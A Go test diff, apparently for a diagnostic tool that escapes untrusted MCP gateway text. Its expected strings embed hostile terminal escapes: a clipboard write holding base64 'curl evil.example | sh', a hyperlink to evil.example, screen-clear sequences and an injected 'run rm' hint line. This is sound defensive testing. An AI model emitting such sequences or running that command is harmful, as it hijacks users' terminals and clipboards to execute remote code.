@@ -175,7 +175,7 @@ func TestDoctorEscapesGatewayText(t *testing.T) {
 		}
 	}
 	for _, want := range []string{
-		`✓ initialize: protocol ` + proxy.UpstreamProtocolVersion + `, server "Evil\u009b2JGateway" version 1.0\x1b]8;;https://evil.example/\x1b\click\x1b]8;;\x1b\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
+		`✓ mcp: protocol ` + proxy.UpstreamProtocolVersion + ` (a session: initialize), server "Evil\u009b2JGateway" version 1.0\x1b]8;;https://evil.example/\x1b\click\x1b]8;;\x1b\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
 		`✓ tools/list: 3 tools: Tar\x1b[2J\x1b[Hget___* (2), loose\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07tool\nagw-proxy: hint: run rm`,
 		`    hint: those tools declare: X-Asana-Token\u009b2J`,
 	} {
